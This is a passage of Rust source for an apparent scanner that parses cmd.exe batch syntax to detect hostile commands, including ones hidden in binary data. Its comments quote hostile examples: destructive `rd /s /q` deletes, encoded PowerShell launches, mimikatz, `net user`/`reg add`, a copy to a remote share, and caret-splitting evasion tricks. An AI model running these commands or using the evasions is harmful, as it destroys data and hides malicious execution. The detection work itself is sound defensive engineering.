/// delimiter, and `\nrd/s` alone turned up in the chance windows (invariant 11). Review
/// rv2-screen: `rd/s/q C:\PACS` was missed; issue 10, session 34: in binary values too.
fn slash_ends_builtin(launcher: &[u8], after: &[u8], chance_bytes: bool) -> bool {
    if after.first() != Some(&b'/') || !CMD_BUILTINS.contains(&launcher) {
        return false;
    }
    let mut arguments = leading_arguments(after, chance_bytes);
    arguments
        .next()
        .is_some_and(|switch| takes_switch(launcher, switch))
        && arguments.any(|argument| names_a_path(argument, chance_bytes))
}

/// The program of [`BATCH`] the command at the start of `start` runs (its name followed by
/// a delimiter, the line's end, or `.exe`), an ambiguous one only with a command's
/// argument; or, for a name of no tool known here, the name itself when it ends with an
/// extension Windows runs ([`RUNNABLE_EXTENSIONS`]): named by its path (`by_path`, the
/// path already cut from `start`) whatever follows it, bare only with a command's syntax
/// after it (a `)` ends it only `in_block`, see [`Blocks`]).
fn batch_program(
    start: &[u8],
    by_path: bool,
    pathext: bool,
    in_block: bool,
    chance_bytes: bool,
    piped: bool,
) -> Option<(&[u8], bool)> {
    // A redirection ends the name as a delimiter does (`rd>nul /s /q C:\x`).
    let name_ends = |b: Option<u8>| {
        b.is_some_and(|b| matches!(b, b'\r' | b'\n' | b'<' | b'>') || is_token_delimiter(b))
    };
    // Every tool of BATCH starts with a letter: a line starting with anything else (the
    // `\` of a line of `\`+newline, a caret, a digit) is compared with none of them.
    // Review r26-screen: the list was walked (and copied, iterated by value) for every
    // candidate, ~1 us each in a debug build: 64 MiB of `\`+newline, 32 million
    // candidates, took 55 s of CPU.
    let launchers: &[&[u8]] = if start.first().is_some_and(u8::is_ascii_alphabetic) {
        &BATCH
    } else {
        &[]
    };
    for &launcher in launchers {
        let Some(head) = start.get(..launcher.len()) else {
            continue;
        };
        if !head.eq_ignore_ascii_case(launcher) {
            continue;
        }
        let after = &start[launcher.len()..];
        // cmd.exe ends a program's name at a `/` too (`cmd/c calc`, `shutdown/r`):
        // for a tool whose name alone counts, or whose arguments are judged whole
        // (`cmd`'s command, [`ARGUED_BATCH`]); the other ambiguous tools ask for a path
        // after it ([`slash_ends_builtin`]), as a switch is one byte of chance there.
        let slash_ends = |b: Option<u8>| {
            b == Some(b'/')
                && (!AMBIGUOUS_BATCH.contains(&launcher)
                    || launcher == b"cmd"
                    || ARGUED_BATCH.contains(&launcher))
        };
        let ends = name_ends(after.first().copied())
            || slash_ends(after.first().copied())
            || slash_ends_builtin(launcher, after, chance_bytes)
            || {
                // `powershell.exe`, `cmd.exe`, `format.com`
                program_extension(after)
                    && (name_ends(after.get(4).copied()) || slash_ends(after.get(4).copied()))
            };
        if !ends {
            continue;
        }
        // An ambiguous name was judged here, with or without its `.exe`: `"cmd.exe";`
        // in JavaScript is no command line.
        return (!AMBIGUOUS_BATCH.contains(&launcher)
            || tool_argument(launcher, after, chance_bytes, piped))
        .then_some((launcher, false));
    }
    // The name ends where cmd.exe ends it: a delimiter, an operator, a redirection, the
    // line's end, and inside a block the `)` closing it (`(calc.exe)`, `if 1==1
    // (calc.exe)`). Linear over a search: a name never runs past the next candidate's
    // start.
    let end = name_end(start, in_block);
    let name = &start[..end];
    // Named by its path, cmd.exe runs a `.com` too, and a name without an extension
    // through PATHEXT (`.COM`, `.EXE`, `.BAT`, `.CMD`, ...) where `pathext` says a path
    // is a command's beyond doubt (see [`command_at`]).
    let runnable = has_runnable_extension(name)
        || (by_path && name.len() > 4 && name[name.len() - 4..].eq_ignore_ascii_case(b".com"))
        || (pathext && !name.contains(&b'.'));
    // A file name Windows accepts: no control character, none of its reserved characters
    // (bytes past ASCII are letters of the console's code page: `\x82.exe` is `é.exe`).
    let file_name = name
        .iter()
        .all(|&b| b >= 0x20 && b != 0x7F && !matches!(b, b'"' | b'*' | b'/' | b':' | b'?' | b'\\'));
    // A bare name runs only if such a file is in the current folder or on the PATH, and
    // starts lines of prose and code (`Node.js supports …`, `self.cmd = cmd`, `idle.bat,
    // idle.py`: 174 of 31,685 real text files, review r23-screen): it counts with a
    // command's syntax after it, as an ambiguous launcher does: nothing to the command's
    // end (an operator, a redirection, a block's `)`), or a command's argument.
    let rest = &start[end..];
    let alone = ends_command(rest, in_block);
    // `Node.js`, `Underscore.js`: JavaScript libraries are named so, and such a name
    // alone on a line is a heading of their manuals (67 files of Node.js's); bare, a
    // `.js` counts only with a command's argument.
    let library = name.len() > 3 && name[name.len() - 3..].eq_ignore_ascii_case(b".js");
    // A bare `.com` counts alone only: a domain name is followed by prose.
    // Of a tool named here only (`mimikatz.com`): `MEDIMAGING.COM` or `Radiology.com`
    // alone on a report's line is a domain (review rv41-screen).
    let com = !runnable && bare_com_name(name) && known_tool(name);
    if !((runnable || com) && file_name && name[0] != b'.') {
        return None;
    }
    // Known by standing alone and nothing else: the one rule chance bytes meet.
    let argued = by_path || (!com && command_like_argument(rest));
    (argued || (alone && !library)).then_some((name, !argued))
}

/// Whether `rest` (what follows a bare name) ends the command with nothing more than
/// delimiters: the line's end (a Ctrl-Z too, which cmd.exe reads as one), an operator, a
/// redirection, of a numbered stream too (`2>nul`, `1>nul`, `2>&1`), a caret continuing
/// the line (`evil.exe ^`: what the next line adds is the name's arguments), or, inside a
/// block, its `)`. Review r32-screen: `evil.exe 2>nul`, `evil.exe ^` and `evil.exe` then
/// a Ctrl-Z were no command anywhere. Each adds a byte or two to the same chance line,
/// which is a warning in binary values.
fn ends_command(rest: &[u8], in_block: bool) -> bool {
    for (at, &b) in rest.iter().enumerate() {
        let next = rest.get(at + 1).copied();
        match b {
            b'\r' | b'\n' | CTRL_Z | b'&' | b'|' | b'<' | b'>' => return true,
            b')' if in_block => return true,
            b'0'..=b'9' if next == Some(b'>') => return true,
            b'^' if matches!(next, Some(b'\r' | b'\n' | CTRL_Z)) => return true,
            _ if is_token_delimiter(b) => continue,
            _ => return false,
        }
    }
    true
}

/// Where cmd.exe ends a command's name at the start of `line`: a delimiter, an
/// operator, a redirection, the line's end, or, inside a `(` block (`in_block`), the `)`
/// closing it; outside one, `)` is a byte of the name.
fn name_end(line: &[u8], in_block: bool) -> usize {
    line.iter()
        .position(|&b| {
            is_token_delimiter(b)
                || matches!(b, b'\r' | b'\n' | CTRL_Z | b'&' | b'|' | b'<' | b'>')
                || (in_block && b == b')')
        })
        .unwrap_or(line.len())
}

/// Whether `name` ends with an extension Windows runs ([`RUNNABLE_EXTENSIONS`]).
fn has_runnable_extension(name: &[u8]) -> bool {
    has_extension_of(name, &RUNNABLE_EXTENSIONS)
}

/// Whether `name` ends with one of `extensions` (any case).
fn has_extension_of(name: &[u8], extensions: &[&[u8]]) -> bool {
    extensions.iter().any(|ext| {
        name.len() > ext.len() && name[name.len() - ext.len()..].eq_ignore_ascii_case(ext)
    })
}

/// Whether the first word of `line` ends with an extension Windows runs.
fn first_word_is_runnable(line: &[u8]) -> bool {
    // Inside a block or not, as cmd.exe may read it: `)` ending the name or not.
    has_runnable_extension(&line[..name_end(line, true)])
        || has_runnable_extension(&line[..name_end(line, false)])
}

/// Whether `rest` (what follows `tool`'s name) starts with one of the subcommands of
/// [`BATCH_SUBCOMMANDS`] the tool runs: `net user`, `reg add`.
fn runs_subcommand(tool: &[u8], rest: &[u8], chance_bytes: bool) -> bool {
    let Some((_, subcommands)) = BATCH_SUBCOMMANDS.iter().find(|(name, _)| *name == tool) else {
        return false;
    };
    // The first argument cmd.exe hands over, past any redirection (`net >nul user`).
    let mut arguments = leading_arguments(rest, chance_bytes);
    // The program reads its arguments without their quotes (`sc "\\host" config`,
    // `net "user"`: review rv39, a quoted host hid `sc`'s subcommand).
    let unquoted =
        |word: &[u8]| -> Vec<u8> { word.iter().copied().filter(|&b| b != b'"').collect() };
    let Some(mut first) = arguments.next().map(unquoted) else {
        return false;
    };
    // `sc \\host config …`: a remote host's name comes first (review of session 37).
    if tool == b"sc" && first.starts_with(b"\\\\") {
        let Some(next) = arguments.next() else {
            return false;
        };
        first = unquoted(next);
    }
    subcommands
        .iter()
        .any(|sub| first.eq_ignore_ascii_case(sub))
}

/// Where the program of the command at the start of `line` begins, past what cmd.exe reads
/// before it: blanks, `@` (no echo), the delimiters `;`, `,` and `=`, a `(` that opens a
/// block, and the commands that run another: `call x`, `if <condition> x`, `for ... do x`.
/// Each step moves forward, and the search stays within this command (to its `&`, `|`
/// or line end, where the next candidate starts): linear over the bytes searched.
fn program_start(line: &[u8]) -> usize {
    program_start_and_set_command(line).at
}

/// What [`program_start_and_set_command`] read before a command's program.
struct ProgramStart {
    /// Where the program starts.
    at: usize,
    /// Where the command of a `for /f` set starts, when the line's `for` has one.
    set_command: Option<usize>,
    /// Whether a command word (`call`, `if`, `for`) stood before it: words chance bytes
    /// do not spell (see [`truly_bare`]); a redirection is none.
    keyword: bool,
}

/// [`program_start`], and where the command of a `for /f` set starts when the line's
/// `for` has one: `for /f %%a in ('powershell -c x') do echo %%a` runs `powershell` first
/// (cmd.exe runs a set in single quotes, or in backquotes with `usebackq`, as a command
/// and reads its output; review r26-screen: it was no command here). A redirection
/// before the program is taken out as cmd.exe takes it out (`>nul rd /s /q C:\x`,
/// `2>nul del /q x`: session 35).
fn program_start_and_set_command(line: &[u8]) -> ProgramStart {
    let mut set_command = None;
    let mut keyword = false;
    let mut else_looked = false;
    let delimiter = |b: &u8| is_token_delimiter(*b) || matches!(b, b'\r' | b'@' | b'(');
    // A word also ends at an operator or the line's end, where the next candidate
    // starts; the command's extent is only looked for after `if` and `for`.
    let word_ends = |b: &u8| delimiter(b) || is_command_end(*b);
    let mut at = 0;
    loop {
        at += line[at..]
            .iter()
            .position(|b| !delimiter(b))
            .unwrap_or(line.len() - at);
        // Before the program, in any bytes: a line that starts so is one candidate in
        // ~130 of chance bytes (a `<` or `>` first), each still asking for a program.
        if let Some(len) = redirection_len(&line[at..], false) {
            at += len;
            continue;
        }
        let done = ProgramStart {
            at,
            set_command,
            keyword,
        };
        // `) else x` first on a line: the block of an `if` over several lines closed,
        // and its `else` branch run (review rv39: `if exist x (⏎echo x⏎) else rd /s /q
        // C:\PACS` was clean). A `)` followed by anything else runs nothing.
        if line.get(at) == Some(&b')') {
            let word = at
                + 1
                + line[at + 1..]
                    .iter()
                    .position(|b| !delimiter(b))
                    .unwrap_or(line.len() - at - 1);
            let word_end = word
                + line[word..]
                    .iter()
                    .position(word_ends)
                    .unwrap_or(line.len() - word);
            if !is_keyword(&line[word..word_end], b"else") {
                return ProgramStart {
                    at: line.len(),
                    set_command,
                    keyword,
                };
            }
            at = word_end;
            keyword = true;
            continue;
        }
        // Pixel data: most candidates start with none of `call`, `if`, `for`.
        if !matches!(
            line.get(at).map(u8::to_ascii_lowercase),
            Some(b'c' | b'i' | b'f' | b'^')
        ) {
            return done;
        }
        let word_end = at
            + line[at..]
                .iter()
                .position(word_ends)
                .unwrap_or(line.len() - at);
        let word = &line[at..word_end];
        let command = || &line[..at + command_len(&line[at..])];
        if is_call_word(word) {
            at = word_end;
        } else if is_keyword(word, b"if") {
            // A condition cmd.exe cannot read is a syntax error: nothing runs.
            match past_if_condition(command(), word_end) {
                Some(body) => {
                    // The `else` branch of the first `if` is a command of its own
                    // (`if 1==2 (echo) else rd /s /q C:\PACS`, review of session 37),
                    // judged as a `for /f` set is; once a candidate: linear.
                    if !else_looked {
                        else_looked = true;
                        set_command = set_command.or_else(|| else_branch(command(), body));
                    }
                    at = body;
                }
                None => return done,
            }
        } else if is_keyword(word, b"for") {
            // The first `for /f` of the line only: each step moves forward.
            set_command = set_command.or_else(|| for_f_set_command(command(), word_end));
            match past_for_do(command(), word_end) {
                Some(body) => at = body,
                None => return done,
            }
        } else {
            return done;
        }
        keyword = true;
    }
}

/// Where the command of an `if`'s `else` starts in `command`, when the `if`'s body
/// (at `body`) is a `(` block followed by `else`: cmd.exe takes an `else` only after a
/// block's `)` (outside quotes, not escaped), on the same line. A block over several
/// lines is not followed here.
fn else_branch(command: &[u8], body: usize) -> Option<usize> {
    let rest = command.get(body..)?;
    let open = rest.iter().position(|&b| !is_token_delimiter(b))?;
    if rest[open] != b'(' {
        return None;
    }
    let (mut depth, mut quoted, mut escaped) = (0usize, false, false);
    let mut close = None;
    for (i, &b) in rest[open..].iter().enumerate() {
        if std::mem::take(&mut escaped) {
            continue;
        }
        match b {
            b'"' => quoted = !quoted,
            b'^' if !quoted => escaped = true,
            b'(' if !quoted => depth += 1,
            b')' if !quoted => {
                depth = depth.saturating_sub(1);
                if depth == 0 {
                    close = Some(open + i + 1);
                    break;
                }
            }
            _ => {}
        }
    }
    let after = &rest[close?..];
    let word = after.iter().position(|&b| !is_token_delimiter(b))?;
    let len = keyword_len(&after[word..], b"else")?;
    let next = after.get(word + len).copied();
    next.is_some_and(|b| is_token_delimiter(b) || b == b'(')
        .then(|| body + (rest.len() - after.len()) + word + len)
}

/// Past the condition of an `if` whose keyword ends at `from`: `[/i] [not]` then
/// `errorlevel N`, `exist PATH`, `defined NAME`, `cmdextversion N`, `a==b` (one word or
/// three) or `a OP b` (EQU, NEQ, LSS, LEQ, GTR, GEQ); `None` for any other words.
fn past_if_condition(command: &[u8], from: usize) -> Option<usize> {
    let mut at = from;
    let mut next = || {
        let blank = |b: &u8| matches!(b, b' ' | b'\t');
        at += command[at..]
            .iter()
            .position(|b| !blank(b))
            .unwrap_or(command.len() - at);
        let start = at;
        // A quoted operand is one word, blanks and all (`if "a b"=="a b" rd …`, review
        // rv39: split at its blank, the condition was not read and nothing judged).
        let mut quoted = false;
        at += command[at..]
            .iter()
            .position(|&b| {
                quoted ^= b == b'"';
                !quoted && blank(&b)
            })
            .unwrap_or(command.len() - at);
        (&command[start..at], at)
    };
    let is = is_keyword;
    let (mut word, mut end) = next();
    if is(word, b"/i") {
        (word, end) = next();
    }
    if is(word, b"not") {
        (word, end) = next();
    }
    if ["errorlevel", "exist", "defined", "cmdextversion"]
        .iter()
        .any(|key| is(word, key.as_bytes()))
    {
        return Some(next().1);
    }
    if memchr::memmem::find(word, b"==").is_some() {
        // `a==b`, or `a==` then `b`
        return Some(if word.ends_with(b"==") { next().1 } else { end });
    }
    let (op, op_end) = next();
    if op == b"=="
        || ["equ", "neq", "lss", "leq", "gtr", "geq"]
            .iter()
            .any(|key| is(op, key.as_bytes()))
    {
        return Some(next().1);
    }
    op.starts_with(b"==").then_some(op_end) // `a ==b`
}

/// Where the command of the set of a `for /f` whose keyword ends at `from` starts: past
/// `/f`, its quoted options, the `%%a` variable and `in`, a `(` then a single quote or a
/// backquote (`usebackq`); `None` for any other `for`, or a set of files or strings.
fn for_f_set_command(command: &[u8], from: usize) -> Option<usize> {
    let mut at = from;
    let mut next_word = || {
        at += command[at..]
            .iter()
            .position(|&b| !is_token_delimiter(b))
            .unwrap_or(command.len() - at);
        let start = at;
        if command.get(at) == Some(&b'"') {
            // `"tokens=1 delims="`: one word, blanks and all.
            at += 1 + memchr::memchr(b'"', &command[at + 1..])
                .map_or(command.len() - at - 1, |n| n + 1);
        } else {
            at += command[at..]
                .iter()
                .position(|&b| is_token_delimiter(b) || b == b'(')
                .unwrap_or(command.len() - at);
        }
        (start, at)
    };
    let (switch, end) = next_word();
    if !command[switch..end].eq_ignore_ascii_case(b"/f") {
        return None;
    }
    let mut word = next_word();
    if command.get(word.0) == Some(&b'"') {
        word = next_word(); // the options
    }
    if !command[word.0..word.1].starts_with(b"%") {
        return None;
    }
    let (keyword, end) = next_word();
    if !command[keyword..end].eq_ignore_ascii_case(b"in") {
        return None;
    }
    let rest = &command[end..];
    let open = end + rest.iter().position(|&b| !is_token_delimiter(b))?;
    if command.get(open) != Some(&b'(') {
        return None;
    }
    let quote = open
        + 1
        + command[open + 1..]
            .iter()
            .position(|&b| !is_token_delimiter(b))?;
    matches!(command.get(quote), Some(b'\'' | b'`')).then_some(quote + 1)
}

/// Where the body of a `for` whose keyword ends at `from` starts: after the `do` that
/// follows the `)` closing its set, if the command has one.
fn past_for_do(command: &[u8], from: usize) -> Option<usize> {
    let mut at = from;
    while let Some(close) = memchr::memchr(b')', &command[at..]) {
        let after = &command[at + close + 1..];
        let blanks = after
            .iter()
            .position(|b| !matches!(b, b' ' | b'\t'))
            .unwrap_or(after.len());
        let rest = &after[blanks..];
        if let Some(len) = keyword_len(rest, b"do")
            && rest
                .get(len)
                .is_none_or(|b| matches!(b, b' ' | b'\t' | b'('))
        {
            return Some(at + close + 1 + blanks + len);
        }
        at += close + 1;
    }
    None
}

/// The line at the start of `start` with its program named by its file name, when the
/// first word is a path (rooted, or relative with a `\`), as cmd.exe runs it: `C:\Windows\System32\cmd.exe /c x`,
/// `"%SystemRoot%\System32\WindowsPowerShell\v1.0\powershell.exe" -enc ...` (quoted,
/// spaces and all), `\\?\C:\...\mshta.exe`; `%ComSpec%` is cmd.exe. Review s9-r10: a
/// launcher named by its path was no command to this search. `None` for any other word.
fn program_by_path(start: &[u8]) -> Option<Vec<u8>> {
    let quoted = start.first() == Some(&b'"');
    let body = if quoted { &start[1..] } else { start };
    // The name ends at its closing quote or the line's end (quoted), or at a delimiter
    // or an operator; the rest of the command at its operator or the line's end. No read
    // passes the next place a candidate command starts: a line of `&\&\&\...` was read
    // to its end from each `&` (400 KB took five seconds, a 64 MiB window hours).
    let end = if quoted {
        memchr::memchr2(b'"', b'\n', body).unwrap_or(body.len())
    } else {
        body.iter()
            .position(|&b| ends_word(b) || b == b'"')
            .unwrap_or(body.len())
    };
    let name = &body[..end];
    let after = end + usize::from(quoted && body.get(end) == Some(&b'"'));
    let rest = &body[after..];
    let rest = to_command_end(rest);
    if name.eq_ignore_ascii_case(b"%comspec%") {
        return Some([&b"cmd"[..], rest].concat());
    }
    // cmd.exe ends a program's name at a `/` (`%ComSpec%/c calc`,
    // `C:\Windows\System32\cmd.exe/c calc`): where the file name before one is a tool
    // known here or a runnable name, it is the program, and the rest its switches
    // (session 40: read as a program named `c`).
    if name
        .get(..9)
        .is_some_and(|head| head.eq_ignore_ascii_case(b"%comspec%"))
        && name.get(9) == Some(&b'/')
    {
        return Some([&b"cmd"[..], &name[9..], rest].concat());
    }
    if let Some(separator) = name.iter().rposition(|&b| b == b'\\')
        && let Some(slash) = memchr::memchr(b'/', &name[separator + 1..])
    {
        let file = &name[separator + 1..separator + 1 + slash];
        let lower = file.to_ascii_lowercase();
        let bare = without_program_extension(&lower);
        if BATCH.contains(&bare) || has_runnable_extension(file) {
            return Some([file, &name[separator + 1 + slash..], rest].concat());
        }
    }
    // A path rooted (`C:\`, `\\host`, `%SystemRoot%`) or relative (`.\x.exe`,
    // `tools\x.exe`: cmd.exe runs it from the current directory; `/` alone is a switch
    // there, `foo/c` is `foo` given `/c`).
    let rooted = name.starts_with(b"%")
        || (name.len() > 2 && name[0].is_ascii_alphabetic() && name[1] == b':');
    let last = if rooted {
        name.iter().rposition(|b| matches!(b, b'\\' | b'/'))?
    } else {
        name.iter().rposition(|&b| b == b'\\')?
    };
    // A path ending in its separator (`\`, `C:\dir\`) names a folder, no program: no
    // copy of the line (one per line of a file of `\`+newline, review r26-screen).
    if last + 1 == name.len() {
        return None;
    }
    Some([&name[last + 1..], rest].concat())
}

/// Lines a program's name is followed over when each ends with cmd.exe's line
/// continuation (a caret last on the line, `p^` then `owershell`); a name split over more
/// is a `not-inspected` warning. Each line is read by the names of at most this many
/// lines before it: linear however many lines of `^` a file holds.
pub const MAX_BATCH_NAME_CONTINUATIONS: usize = 16;

/// Where the line continuation of a caret that ends `word` (`word_end` in `start`) takes
/// the name on: past the line end (CRs, which cmd.exe removes before it reads carets, then
/// the `\n`), if the word ends with an odd number of carets (`^^` is a caret).
fn continued_at(start: &[u8], word_end: usize) -> Option<usize> {
    let carets = start[..word_end]
        .iter()
        .rev()
        .take_while(|&&b| b == b'^')
        .count();
    if carets % 2 == 0 {
        return None;
    }
    let crs = start[word_end..]
        .iter()
        .take_while(|&&b| b == b'\r')
        .count();
    start
        .get(word_end + crs)
        .is_some_and(|&b| is_line_feed(b))
        .then_some(word_end + crs + 1)
}

/// The first word of `start` as cmd.exe reads a program's name: its carets removed (`^x`
/// is `x`), its double quotes removed, and a caret last on the line joining the next
/// line's first word to it, whose first byte is taken as written (`p^` CRLF `owershell`
/// is `powershell`, review r26-screen). With where the name ends in `start`, or `Err`
/// with the offset of the line past [`MAX_BATCH_NAME_CONTINUATIONS`].
fn program_name_as_read(start: &[u8]) -> Result<(Vec<u8>, usize), usize> {
    let mut name = Vec::new();
    let mut from = 0;
    let mut literal_first = false;
    for _ in 0..=MAX_BATCH_NAME_CONTINUATIONS {
        if literal_first {
            // cmd.exe removed the CRs: an empty line after the caret is an escaped line
            // feed, which joins the line after it too.
            let crs = start[from..].iter().take_while(|&&b| b == b'\r').count();
            if start.get(from + crs).is_some_and(|&b| is_line_feed(b)) {
                from += crs + 1;
                literal_first = false;
                continue;
            }
        }
        let line = &start[from..];
        // The first byte of a continued line is escaped: taken as written, whatever it is.
        let skip = usize::from(literal_first && !line.is_empty());
        let word_end = skip
            + line[skip..]
                .iter()
                .position(|&b| ends_word(b))
                .unwrap_or(line.len() - skip);
        let mut escaped = false;
        for (i, &b) in line[..word_end].iter().enumerate() {
            match b {
                _ if i < skip => name.push(b),
                b'^' if !escaped => escaped = true,
                b'"' if !escaped => {}
                _ => {
                    name.push(b);
                    escaped = false;
                }
            }
        }
        let Some(next) = continued_at(&line[skip..], word_end - skip) else {
            return Ok((name, from + word_end));
        };
        from += skip + next;
        literal_first = true;
    }
    Err(from)
}

/// The line at the start of `start` (to its `\n`, included) with its first word read as
/// cmd.exe reads a program's name ([`program_name_as_read`]), or `None` when its first
/// word has no caret and no quote. `Err` with an offset in `start` where a name runs past
/// [`MAX_BATCH_NAME_CONTINUATIONS`] lines.
fn unescaped_program_name(start: &[u8]) -> Result<Option<Vec<u8>>, usize> {
    // The first word only, on every candidate command (this runs over pixel data); the
    // line's end only for a word that has a caret or a quote. The word ends at an
    // operator too, as cmd.exe ends it: a command starts after every `&` and `|`, and a
    // word running over them would be read again from each (quadratic in `p&p&p&...`).
    let word_end = start
        .iter()
        .position(|&b| ends_word(b))
        .unwrap_or(start.len());
    if !start[..word_end].iter().any(|b| matches!(b, b'^' | b'"')) {
        return Ok(None);
    }
    let (mut out, name_end) = program_name_as_read(start)?;
    // To the command's end (its operator or the line's end), not past the next place a
    // candidate starts: linear however many `&^` a line holds.
    let rest = &start[name_end..];
    let rest = to_command_end(rest);
    out.extend_from_slice(rest);
    Ok(Some(out))
}

/// Variables a batch file sets (`set NAME=value`), read once per search, on the first
/// command name that expands one; more than this many are not kept, and a name that
/// expands a variable not kept is then reported as built (more, never less).
pub const MAX_BATCH_VARIABLES: usize = 1024;
/// Bytes of a variable's name and value kept: a command's name and first argument.
const BATCH_VARIABLE_KEPT: usize = 256;

/// Environment variables Windows sets, which a batch file uses without setting them:
/// kept as written (`%SystemRoot%\System32\cmd.exe` is a path [`program_by_path`]
/// reads), where a variable nothing sets expands to nothing in a batch file; a substring
/// or replacement of one of them (`%ComSpec:~-7,3%` is `cmd`) builds a name.
const WINDOWS_VARIABLES: [&[u8]; 26] = [
    b"comspec",
    b"path",
    b"pathext",
    b"os",
    b"processor_architecture",
    b"processor_identifier",
    b"computername",
    b"username",
    b"userdomain",
    b"commonprogramfiles",
    b"psmodulepath",
    b"systemroot",
    b"windir",
    b"systemdrive",
    b"programfiles",
    b"programfiles(x86)",
    b"programdata",
    b"allusersprofile",
    b"public",
    b"userprofile",
    b"appdata",
    b"localappdata",
    b"temp",
    b"tmp",
    b"homedrive",
    b"homepath",
];

/// The `set` commands of a file, read when first needed.
#[derive(Default)]
struct Variables {
    read: bool,
    /// Where each was set, its lower-case name and its value (`None`: read from input,
    /// `set /p`), in file order.
    set: Vec<(usize, Vec<u8>, Option<Vec<u8>>)>,
    /// The indices in `set` of each name's commands, ascending: a look-up is a search
    /// of one name's, not a walk of them all (session 41: with every `%NAME%` of a
    /// known tool's arguments looked up, [`expand_arguments`], 5 MB of such lines after
    /// 1,000 `set` commands took 18.5 s, debug build, where 1.7 s without them).
    by_name: std::collections::HashMap<Vec<u8>, Vec<usize>>,
    /// More `set` commands than [`MAX_BATCH_VARIABLES`] were found.
    full: bool,
    /// The `set` commands of earlier windows of a file read in windows (file order),
    /// and whether there were more than were kept.
    inherited: Vec<(Vec<u8>, Option<Vec<u8>>)>,
    inherited_full: bool,
    /// The last line a `cmd /c` (or `/k`) starts: from its program to its line feed.
    /// What follows an operator there is a command cmd.exe runs ([`launched_command`]).
    launched: Option<Range<usize>>,
    /// Bytes the expansion of variables wrote in this search ([`MAX_EXPANDED_BYTES`]).
    expanded: usize,
    /// [`MAX_EXPANDED_BYTES`] was reached: said once, then lines are read as written.
    spent: bool,
    /// Which value a look-up takes: 0, the last `set` before the line (file order);
    /// `k`, the `k`-th `set` of the name in the file, wherever it is (a `goto` reaches a
    /// line before or after any of them: see [`MAX_VARIABLE_VALUES_TRIED`]).
    choice: usize,
    /// The most values one variable looked up on the current line has in the file
    /// beside the one taken (0: none; its `set` commands counted).
    alternatives: usize,
    /// Whether the file jumps ([`may_jump`]), once looked at: one walk of the bytes per
    /// search, not one per name looked up.
    jumps: Option<bool>,
}

/// Values of one variable tried on a line beside the last set before it: cmd.exe runs a
/// file's lines in the order its `goto` commands take, so a line may run after any of a
/// variable's `set` commands (review of session 42: `goto a`, `:b`, `copy … %s%`, `:a`,
/// `set s=\\host\x`, `goto b` copied to the share, and the line read with `s` unset was
/// clean). Each value is tried in turn, up to this many (the expansion budget,
/// [`MAX_EXPANDED_BYTES`], bounds the work too); a line whose variables have more values
/// and found nothing is a `not-inspected` warning naming this bound. Not every
/// combination of two variables' values is tried: the `k`-th of each together.
pub const MAX_VARIABLE_VALUES_TRIED: usize = 8;

/// The most bytes the expansion of variables writes in one file: the values put in place
/// of `%NAME%`, `!NAME!`, their substrings and replacements in a command's line, and the
/// values of `set` commands built from other variables. Each expanded line is read again
/// by the rules after it: review of session 41, a 4.6 MB value of 80,000 `copy a %s%…`
/// lines took 25.4 s (debug build) against 1.27 s before the expansion. Reaching it is a
/// `not-inspected` warning naming it; past it lines are read as written.
pub const MAX_EXPANDED_BYTES: usize = 1 << 20;

impl Variables {
    /// [`may_jump`] of the file, walked once.
    fn jumps(&mut self, bytes: &[u8]) -> bool {
        *self.jumps.get_or_insert_with(|| may_jump(bytes))
    }

    /// Charges `n` bytes of expansion: `false` once [`MAX_EXPANDED_BYTES`] is reached.
    fn charge(&mut self, n: usize) -> bool {
        if self.expanded.saturating_add(n) > MAX_EXPANDED_BYTES {
            self.spent = true;
            return false;
        }
        self.expanded += n;
        #[cfg(test)]
        tests::EXPANDED.with(|expanded| expanded.set(expanded.get() + n));
        true
    }

    /// How many values `name` (lower case) may hold at offset `at` beside the one
    /// [`Variables::at`] takes with `choice` 0: its `set` commands in the file, when
    /// there is more than one or the one is after `at`.
    fn alternatives(&mut self, bytes: &[u8], name: &[u8], at: usize) -> usize {
        if !self.read {
            self.read(bytes);
        }
        match self.by_name.get(name) {
            Some(indices) if indices.len() > 1 || self.set[indices[0]].0 >= at => indices.len(),
            _ => 0,
        }
    }

    /// The value `name` (lower case) holds at offset `at`: the last `set` before it, or
    /// with a [`Variables::choice`] the `choice`-th `set` of it in the file.
    fn at(&mut self, bytes: &[u8], name: &[u8], at: usize) -> Lookup<'_> {
        if !self.read {
            self.read(bytes);
        }
        // Past the limit a `set` not kept may have changed any variable after the one
        // kept (`set p=notepad`, 1024 more, `set p=powershell`, `%p%` expanded to
        // notepad): no kept value is trusted then (review s10-r10).
        if self.full {
            return Lookup::NotKept;
        }
        let choice = self.choice;
        let last_before = self.by_name.get(name).and_then(|indices| {
            if let Some(&chosen) = choice.checked_sub(1).and_then(|k| indices.get(k)) {
                return Some(&self.set[chosen]);
            }
            let before = indices.partition_point(|&i| self.set[i].0 < at);
            before.checked_sub(1).map(|k| &self.set[indices[k]])
        });
        match last_before {
            Some((_, _, Some(value))) => Lookup::Value(value),
            Some((_, _, None)) => Lookup::FromInput,
            None if self.full => Lookup::NotKept,
            // Earlier windows set more than were kept: none of theirs is trusted.
            None if self.inherited_full => Lookup::NotKept,
            None => match self.inherited.iter().rev().find(|(set, _)| set == name) {
                Some((_, Some(value))) => Lookup::Value(value),
                Some((_, None)) => Lookup::FromInput,
                None if self.inherited_full => Lookup::NotKept,
                None => Lookup::Unset,
            },
        }
    }

    fn read(&mut self, bytes: &[u8]) {
        self.read = true;
        let starts = std::iter::once(0).chain(
            memchr::memchr3_iter(b'\n', b'&', b'|', bytes)
                .chain(memchr::memchr_iter(CTRL_Z, bytes))
                .map(|separator| separator + 1)
                // `s` and what is skipped before a name are among these bytes.
                .filter(|&start| {
                    bytes
                        .get(start)
                        .is_some_and(|&b| BATCH_COMMAND_START[usize::from(b)])
                }),
        );
        for start in starts {
            let Some(line) = bytes.get(start..) else {
                continue;
            };
            // Its CRs deleted, as cmd.exe reads it (`s<CR>et p=power<CR>shell`).
            let line = CmdLine::read(line);
            let at = program_start(&line.text);
            let Some((name, value)) = set_command(&line.text[at..]) else {
                continue;
            };
            if self.set.len() >= MAX_BATCH_VARIABLES {
                self.full = true;
                return;
            }
            self.set.push((start + line.offset(at), name, value));
        }
        self.set.sort_by_key(|(offset, _, _)| *offset);
        // cmd.exe expands a `set` line before it runs it: `set t=%s%` stores the value of
        // `s` (review of session 41: `set t=%s%` then `copy x %t%` was clean). Values are
        // expanded in file order with the values set before them; one a loop or input
        // gives (`%%a`, `set /p`) keeps its `%` and is known only when the file runs.
        let mut latest: std::collections::HashMap<Vec<u8>, Option<Vec<u8>>> = self
            .inherited
            .iter()
            .map(|(name, value)| (name.clone(), value.clone()))
            .collect();
        // The values as written, of those built from others ([`Variables::add_built_variants`]).
